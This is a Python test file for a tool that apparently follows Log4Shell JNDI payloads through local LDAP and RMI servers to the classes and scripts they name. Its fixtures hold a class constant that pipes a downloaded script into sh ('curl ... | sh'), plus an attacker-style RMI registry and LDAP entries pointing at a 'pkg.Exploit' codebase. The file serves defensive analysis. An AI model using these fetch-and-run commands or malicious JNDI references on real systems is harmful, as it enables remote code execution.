"""What Log4Shell makes a server ask for: from a real directory and a real registry, and from such as lie and hang."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import subprocess
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eudaemon.payload import java
from eudaemon.payload.fetch import ldap, rmi
from eudaemon.payload.fetch.policy import FetchSettings
from eudaemon.payload.fetch.service import FetchResult
from eudaemon.payload.follow import follow
from eudaemon.wire import ber
from eudaemon.world.host import Host
from eudaemon.world.outside import Download
from eudaemon.world.seed import Seed
from payload.directory import ROOT, slapd
from payload.servers import SIZES, Lab, Talk, content, free_port, serving, tool

HOST = Host.from_seed(Seed(b"test"))
# A class as javac makes it, as far as it matters: its constants are text.
COMMAND = "curl -s http://127.0.0.1:{port:5}/next.sh | sh"
CLASS = "\xca\xfe\xba\xbe\0\0\0\x34\0\x07\x05\0\0\0\0\0\0\0\1\x07\0\2\1\0{size:c}{command}\1\0\4Code\0\x21"
REFERENCE = """dn: cn={name},dc=lab
objectClass: javaContainer
objectClass: javaNamingReference
cn: {name}
javaClassName: foo
{more}
"""
# One file, run from its source: a registry, and a Reference in it, as attackers make them with the JDK's own classes.
REGISTRY = """
import com.sun.jndi.rmi.registry.ReferenceWrapper;
public class Registry {
    public static void main(String[] given) throws Exception {
        var registry = java.rmi.registry.LocateRegistry.createRegistry(Integer.parseInt(given[0]));
        registry.bind("a", new ReferenceWrapper(new javax.naming.Reference("a", "pkg.Exploit", given[1])));
        System.out.println("ready");
        Thread.sleep(60000);
    }
}
"""


def a_class(port: int) -> bytes:
    command = COMMAND.format(port=port)
    return CLASS.format(size=len(command), command=command).encode("latin-1")


async def followed(lab: Lab, url: str) -> list[tuple[str, str, FetchResult]]:
    async def fetch(download: Download) -> FetchResult:
        return await lab.fetcher.fetch(download, "198.51.100.7")

    steps = follow([Download(url, "jndi")], fetch, FetchSettings(), HOST, "198.51.100.7")
    return [(download.url, download.tool, result) async for download, result in steps]


@contextlib.asynccontextmanager
async def codebase(heard: list[bytes]) -> AsyncIterator[int]:
    """Serve a class under every name, which wants a script, and the script."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(await reader.readuntil(b"\r\n\r\n"))
        port = writer.get_extra_info("sockname")[1]
        body = a_class(port) if b".class " in heard[-1] else b"#!/bin/sh\nid\n"
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)

    async with serving(talk) as port:
        yield port


async def test_a_directory_leads_to_the_class_and_on(tmp_path: Path) -> None:
    heard: list[bytes] = []
    async with codebase(heard) as web:
        serialised = base64.b64encode(b"\xac\xed\0\5sr\0\x11java.util.HashMap" + content(3000)).decode()
        entries = REFERENCE.format(
            name="Exploit", more=f"javaCodeBase: http://127.0.0.1:{web}/\njavaFactory: pkg.Exploit\n"
        ) + REFERENCE.format(name="o", more=f"javaSerializedData:: {serialised}\n").replace(
            "javaNamingReference", "javaSerializedObject"
        )
        async with slapd(tmp_path, ROOT + entries) as port:
            lab = Lab()
            steps = await followed(lab, f"ldap://127.0.0.1:{port}/cn=Exploit,dc=lab")
            assert [(url.rpartition("/")[2], how, result.outcome) for url, how, result in steps] == [
                ("cn=Exploit,dc=lab", "jndi", "ok"),
                ("Exploit.class", "class loading", "ok"),
                ("next.sh", "curl", "ok"),
            ]  # fmt: skip
            assert b"javaFactory: pkg.Exploit" in lab.kept[steps[0][2].sha256]
            assert heard[0].startswith(b"GET /pkg/Exploit.class HTTP/1.1\r\nUser-Agent: Java/1.8.0")
            kept = await lab.content(f"ldap://127.0.0.1:{port}/cn=o,dc=lab")
            assert kept == base64.b64decode(serialised)
            missing = await lab.fetch(f"ldap://127.0.0.1:{port}/cn=nobody,dc=lab")
            assert (missing.outcome, missing.reason) == ("missing", "LDAP: no such object")


async def test_a_registry_leads_to_the_class(tmp_path: Path) -> None:
    heard: list[bytes] = []
    source, registry = tmp_path / "Registry.java", tool("java", "default-jdk-headless")
    source.write_text(REGISTRY)
    port = free_port()
    async with codebase(heard) as web:
        process = await asyncio.create_subprocess_exec(
            registry, "-Xshare:auto", "--add-modules", "jdk.naming.rmi", "--add-exports",
            "jdk.naming.rmi/com.sun.jndi.rmi.registry=ALL-UNNAMED",
            "-XX:TieredStopAtLevel=1", "-Djava.rmi.server.hostname=127.0.0.1", source,
            str(port), f"http://127.0.0.1:{web}/",
            stdout=asyncio.subprocess.PIPE, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        try:
            assert process.stdout is not None
            assert await process.stdout.readline() == b"ready\n"
            lab = Lab()
            steps = await followed(lab, f"rmi://127.0.0.1:{port}/a")
            assert [how for _, how, _ in steps] == ["jndi", "class loading", "curl"]
            assert b"javax.naming.Reference" in lab.kept[steps[0][2].sha256]
            assert heard[0].startswith(b"GET /pkg/Exploit.class ")
            missing = await lab.fetch(f"rmi://127.0.0.1:{port}/nothing")
            assert (missing.outcome, missing.reason) == ("missing", "RMI: an exception")
        finally:
            process.kill()
            await process.wait()


# --- servers that attackers write themselves -------------------------------------------------------------------


def message(number: int, kind: int, *parts: bytes) -> bytes:
    return ber.encoded(ber.SEQUENCE, ber.number(number), ber.encoded(kind, *parts))


def result(number: int, kind: int, code: int = 0) -> bytes:
    return message(number, kind, ber.number(code, ber.ENUMERATED), ber.encoded(4), ber.encoded(4))


def entry(*attributes: tuple[bytes, bytes]) -> bytes:
    listed = (ber.encoded(0x30, ber.encoded(4, name), ber.encoded(0x31, ber.encoded(4, value)))
              for name, value in attributes)  # fmt: skip
    return message(2, 0x64, ber.encoded(4, b"x"), ber.encoded(0x30, *listed))


BOUND, DONE = result(1, 0x61), result(2, 0x65)


def answering(*answers: bytes, hangs: bool = False) -> Talk:
    """Return a server that says one answer to each message that it hears."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        for answer in answers:
            if not await reader.read(65536):
                return
            writer.write(answer)
            await writer.drain()
        if hangs:
            await reader.read()
        writer.write_eof()
        await reader.read(65536)

    return talk


@pytest.mark.parametrize("size", SIZES[:7])
async def test_a_serialised_object_arrives_byte_for_byte(size: int) -> None:
    answer = entry((b"javaClassName", b"x"), (b"javaSerializedData;binary", content(size))) + DONE
    async with serving(answering(BOUND, answer)) as port:
        assert await Lab().content(f"ldap://127.0.0.1:{port}/o") == content(size)


async def test_a_message_up_to_its_limit() -> None:
    for size, outcome in ((ldap.MESSAGE_BYTES_MAX, "ok"), (ldap.MESSAGE_BYTES_MAX + 1, "failed")):
        others = len(entry((b"javaSerializedData", bytes(size - 100)))) - (size - 100)
        answer = entry((b"javaSerializedData", bytes(size - others)))
        assert len(answer) == size
        async with serving(answering(BOUND, answer + DONE)) as port:
            assert (await Lab().fetch(f"ldap://127.0.0.1:{port}/o")).outcome == outcome


MANY = b"".join(entry((b"a", b"b"), (b"javaCodeBase", b"http://h/")) for _ in range(3))


@pytest.mark.parametrize(
    ("answers", "outcome", "reason"),
    [
        ((b"",), "failed", "closed early"),
        ((b"HTTP/1.0 400 Bad\r\n\r\n",), "failed", "LDAP: no message"),
        ((b"\x30\x80\x00\x00",), "failed", "LDAP: BER: a length without an end, or of too many bytes"),
        ((b"\x30\x85\x01\x01\x01\x01\x01",), "failed", "LDAP: BER: a length without an end, or of too many bytes"),
        ((b"\x30\x84\xff\xff\xff\xff",), "failed", f"LDAP: a message over {ldap.MESSAGE_BYTES_MAX} bytes"),
        ((b"\x30\x03\x02\x01\x01",), "failed", "LDAP: no message"),
        ((b"\x30\x05\x02\x03\x01\x01\x01",), "failed", "LDAP: no message"),
        ((b"\x30\x06\x02\x01\x01\x61\x05\x00",), "failed", "LDAP: BER: an element is cut off"),
        ((result(1, 0x61, 49),), "failed", "LDAP: result 49"),
        ((result(1, 0x65),), "failed", "LDAP: not the answer that was asked for"),
        ((BOUND, DONE), "missing", "LDAP: no entry"),
        ((BOUND, result(2, 0x65, 32)), "missing", "LDAP: no such object"),
        ((BOUND, result(2, 0x65, 10)), "failed", "LDAP: a referral"),
        ((BOUND, result(7, 0x64) * 65), "failed", f"LDAP: more than {ldap.MESSAGES_MAX} messages"),
        ((BOUND, entry((b"a", b"b")) * 65), "failed", f"LDAP: more than {ldap.MESSAGES_MAX} messages"),
        ((BOUND, entry(*[(b"a", b"b")] * (ldap.VALUES_MAX + 1))), "failed",
         f"LDAP: more than {ldap.VALUES_MAX} values"),
        ((BOUND, MANY + result(2, 0x65, 4)), "ok", ""),  # too many entries there: what came is enough
        ((BOUND, message(2, 0x73, ber.encoded(4, b"ldap://h/")) + MANY + DONE), "ok", ""),
    ],
)  # fmt: skip
async def test_a_directory_may_say_anything(answers: tuple[bytes, ...], outcome: str, reason: str) -> None:
    async with serving(answering(*answers)) as port:
        told = await Lab().fetch(f"ldap://127.0.0.1:{port}/o")
    assert (told.outcome, told.reason) == (outcome, reason)


@pytest.mark.parametrize("scheme", ["ldap", "ldaps", "rmi"])
async def test_silence_ends_it(scheme: str) -> None:
    async with serving(answering(b"", hangs=True)) as port:
        told = await Lab(idle_s_max=0.05, connect_s_max=0.05).fetch(f"{scheme}://127.0.0.1:{port}/o")
    assert told.outcome == "failed"
    assert told.reason in ("silent for 0.05 s", "TLS: no answer")


RETURNED = b"\x51\xac\xed\0\5w\x0f\1" + bytes(14)
GREETED = b"N\0\x09127.0.0.1\0\0\x12\x34"


def _greeted(answer: bytes) -> tuple[bytes, ...]:
    return (GREETED, answer.removeprefix(GREETED)) if answer.startswith(GREETED) else (answer,)


@pytest.mark.parametrize(
    ("answer", "outcome", "reason"),
    [
        (b"", "failed", "closed early"),
        (b"O", "failed", "RMI: not spoken here"),
        (b"HTTP/1.0 400 Bad\r\n\r\n", "failed", "RMI: not spoken here"),
        (GREETED + b"\x51abc", "failed", "RMI: no return"),
        (GREETED + RETURNED.replace(b"\x0f\1", b"\x0f\2"), "missing", "RMI: an exception"),
        (GREETED + RETURNED + b"p", "ok", ""),
        (GREETED + RETURNED + bytes(rmi.ANSWER_BYTES_MAX), "failed",
         f"RMI: an answer over {rmi.ANSWER_BYTES_MAX} bytes"),
    ],
)  # fmt: skip
async def test_a_registry_may_say_anything(answer: bytes, outcome: str, reason: str) -> None:
    async with serving(answering(*_greeted(answer))) as port:
        told = await Lab().fetch(f"rmi://127.0.0.1:{port}/o")
    assert (told.outcome, told.reason) == (outcome, reason)


async def test_a_stub_leads_only_where_the_policy_lets_it() -> None:
    stub = b"\0\x0aUnicastRef\0\x0810.9.8.7\0\0\x30\x39" + bytes(23)
    async with serving(answering(GREETED, RETURNED + stub)) as port:
        told = await Lab(private_to_attacker=False).fetch(f"rmi://127.0.0.1:{port}/o")
    assert (told.outcome, told.reason) == ("refused", "address: private")


# --- what is read from an object -------------------------------------------------------------------------------

LDIF = b"dn: x\njavaFactory: a.B\njavaCodeBase: http://h:8/ ftp://i/c.jar file:///etc\n"
OBJECT = b"\xac\xed\0\5sr\0\x16javax.naming.Reference\0\0t\0\x07Exploitt\0\x13http://203.0.113.9/q\0~\0\3"


@pytest.mark.parametrize(
    ("text", "urls"),
    [
        (LDIF, ["http://h:8/a/B.class", "ftp://i/c.jar"]),
        (LDIF.replace(b"javaFactory", b"javaClassName"), ["http://h:8/a/B.class", "ftp://i/c.jar"]),
        (b"javaCodeBase: http://h/\n", []),
        (b"javaFactory: x\njavaCodeBase: ldap://h/\n", []),
        (OBJECT[:-1].replace(b"\x13http://203.0.113.9/", b"\x13http://203.0.113.9/"), ["http://203.0.113.9/Exploit.class"]),
        (OBJECT[4:], []),
        (b"\xac\xed\0\5" + b"t\0\0" * 50_000, []),
        (b"\xac\xed\0\5" + b"".join(b"t\0\1At\0\x0ahttp://h%d/" % n for n in range(9)),
         [f"http://h{n}/A.class" for n in range(java.CLASSES_MAX)]),
    ],
)  # fmt: skip
def test_classes_that_an_object_names(text: bytes, urls: list[str]) -> None:
    assert list(java.classes(text)) == urls


@given(
    st.binary(max_size=80),
    st.sampled_from([b"", b"\xca\xfe\xba\xbe\0\0\0\x34\xff\xff", b"\xac\xed\0\5", b"javaCodeBase: "]),
)
def test_any_bytes_name_no_more_than_they_hold(data: bytes, head: bytes) -> None:
    assert len(java.constants(head + data)) <= len(head + data)
    assert len(list(java.classes(head + data))) <= java.CLASSES_MAX


def test_texts_of_a_class() -> None:
    assert java.constants(a_class(8080)).split(b"\n") == [COMMAND.format(port=8080).encode(), b"Code"]
    assert java.constants(b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(60)) == b"", "a Mach-O for two machines"
